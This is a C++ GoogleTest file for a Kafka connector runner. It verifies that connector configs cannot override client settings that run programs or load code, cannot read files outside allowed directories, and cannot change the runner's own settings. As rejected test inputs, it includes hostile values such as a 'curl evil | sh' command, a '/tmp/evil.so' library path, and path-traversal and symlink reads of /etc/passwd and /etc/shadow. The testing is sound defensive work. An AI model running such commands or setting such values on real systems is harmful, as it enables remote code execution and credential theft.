// Connector configs (files or REST) cannot make the Kafka clients run programs, load code or read
// files outside what the worker config allows, nor take over what the runner's guarantees need.
#include "config/client_overrides.hpp"
#include "config/connector_config.hpp"

#include <ingest/sdk.hpp>

#include <gtest/gtest.h>

#include <unistd.h>

#include <fstream>

namespace {

using namespace ingest::config;
namespace fs = std::filesystem;

// The problem of one override, or "" when it passed every check of the policy (this runner still
// refuses it then, as it does not pass overrides to its clients yet: that reason is returned).
std::string problem_of(const std::string& key, const std::string& value, const ClientOverridePolicy& policy = {},
                       ingest_plugin_kind kind = INGEST_KIND_SINK) {
    ClientOverrides out;
    std::vector<std::string> secrets;
    return apply_client_override(key, value, kind, policy, out, secrets).value_or("");
}

const std::string kNotYetApplied = "is acceptable, but this runner does not pass client overrides to its Kafka clients yet";

TEST(ClientOverrides, SettingsThatRunCodeNeedTheWorkersPermission) {
    for (const char* property :
         {"sasl.kerberos.kinit.cmd", "plugin.library.paths", "ssl.engine.location", "ssl.engine.id", "ssl.providers"}) {
        for (const char* prefix : {"producer.override.", "consumer.override.", "admin.override."}) {
            const auto problem = problem_of(std::string(prefix) + property, "/bin/sh -c 'curl evil | sh'");
            EXPECT_EQ(problem, "'" + std::string(property) +
                                   "' makes the Kafka client run a program or load code; a connector may set it only "
                                   "when the worker config allows it (ingest run --allow-client-setting " +
                                   property + ")")
                << prefix << property;
        }
    }
    ClientOverridePolicy allowing;
    allowing.allowed_settings = {"sasl.kerberos.kinit.cmd"};
    EXPECT_EQ(problem_of("consumer.override.sasl.kerberos.kinit.cmd", "kinit -t /etc/krb5.keytab", allowing), kNotYetApplied);
    EXPECT_NE(problem_of("consumer.override.plugin.library.paths", "/tmp/x.so", allowing), kNotYetApplied);
}

TEST(ClientOverrides, FilesMustLieUnderAnAllowedDirectory) {
    const fs::path dir = fs::temp_directory_path() / ("ingest-tls-" + std::to_string(::getpid()));
    fs::create_directories(dir / "certs");
    std::ofstream(dir / "certs" / "ca.pem") << "-----BEGIN CERTIFICATE-----\n";
    fs::create_symlink("/etc/passwd", dir / "certs" / "sneaky.pem");

    auto problem = problem_of("consumer.override.ssl.ca.location", "/etc/passwd");
    EXPECT_EQ(problem, "'ssl.ca.location' reads the file '/etc/passwd'; connectors may name files only under the worker "
                       "config's client-file-dir directories, and this worker allows none (ingest run --client-file-dir DIR)");

    ClientOverridePolicy policy;
    policy.file_dirs = {dir / "certs"};
    EXPECT_EQ(problem_of("consumer.override.ssl.ca.location", (dir / "certs" / "ca.pem").string(), policy), kNotYetApplied);
    EXPECT_EQ(problem_of("producer.override.ssl.key.location", (dir / "certs" / "not-yet-there.pem").string(), policy),
              kNotYetApplied);
    for (const auto& escape : {(dir / "certs" / ".." / ".." / "etc" / "passwd").string(), std::string("/etc/shadow"),
                               (dir / "certs" / "sneaky.pem").string(), (dir / "certs-evil" / "x.pem").string()}) {
        problem = problem_of("admin.override.sasl.kerberos.keytab", escape, policy);
        EXPECT_NE(problem.find("reads the file '" + escape + "'"), std::string::npos) << escape << ": " << problem;
        EXPECT_NE(problem.find((dir / "certs").string()), std::string::npos) << problem;
    }
    EXPECT_NE(problem_of("consumer.override.ssl.certificate.location", "certs/ca.pem", policy).find("absolute path"),
              std::string::npos);
    EXPECT_EQ(problem_of("consumer.override.ssl.ca.location", "probe"), kNotYetApplied);  // the system's CA stores
    fs::remove_all(dir);
}

TEST(ClientOverrides, TheRunnersOwnSettingsCannotBeOverridden) {
    for (const char* property : {"enable.idempotence", "acks", "group.id", "auto.offset.reset", "enable.auto.commit",
                                 "bootstrap.servers", "transactional.id"})
        EXPECT_NE(problem_of(std::string("producer.override.") + property, "x").find("is set by the runner"),
                  std::string::npos)
            << property;
}

TEST(ClientOverrides, OtherChecks) {
    EXPECT_EQ(problem_of("consumer.override.fetch.max.bytes", "1048576", {}, INGEST_KIND_SOURCE),
              "a source has no consumer: consumer.override.* applies to sinks only");
    EXPECT_EQ(problem_of("producer.override.", "x"), "names no client property after 'producer.override.'");
    EXPECT_NE(problem_of("consumer.override.sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd").find("http"),
              std::string::npos);
    EXPECT_NE(problem_of("consumer.override.client.id", std::string(70'000, 'x')).find("at most 65536 bytes"),
              std::string::npos);
    EXPECT_EQ(problem_of("consumer.override.fetch.max.bytes", "1048576"), kNotYetApplied);
}

TEST(ClientOverrides, AConnectorConfigReportsThemWithItsOtherProblems) {
    static constexpr ingest_config_key kKeys[] = {ingest::sdk::string_key("table", "events", "Table.")};
    ingest_plugin sink{};
    sink.abi_version = INGEST_ABI_MAJOR;
    sink.struct_size = sizeof sink;
    sink.name = "sink_test";
    sink.kind = INGEST_KIND_SINK;
    sink.config_keys = kKeys;
    sink.config_key_count = 1;
    ConnectorSpec spec{"rest: connector 'x'", "x",
                       {{"plugin", "sink_test"}, {"topics", "t"}, {"tabel", "y"},
                        {"consumer.override.sasl.kerberos.kinit.cmd", "touch /tmp/pwned"},
                        {"producer.override.plugin.library.paths", "/tmp/evil.so"}}};
    try {
        validate_connector(spec, sink);
        FAIL() << "accepted";
    } catch (const ConfigError& error) {
        std::map<std::string, std::string> by_key;
        for (const auto& problem : error.problems()) by_key[problem.key] = problem.message;
        EXPECT_EQ(by_key.size(), 3u);
        EXPECT_NE(by_key["consumer.override.sasl.kerberos.kinit.cmd"].find("run a program or load code"), std::string::npos);
        EXPECT_NE(by_key["producer.override.plugin.library.paths"].find("run a program or load code"), std::string::npos);
        EXPECT_NE(by_key["tabel"].find("unknown key"), std::string::npos);
    }
}

}  // namespace
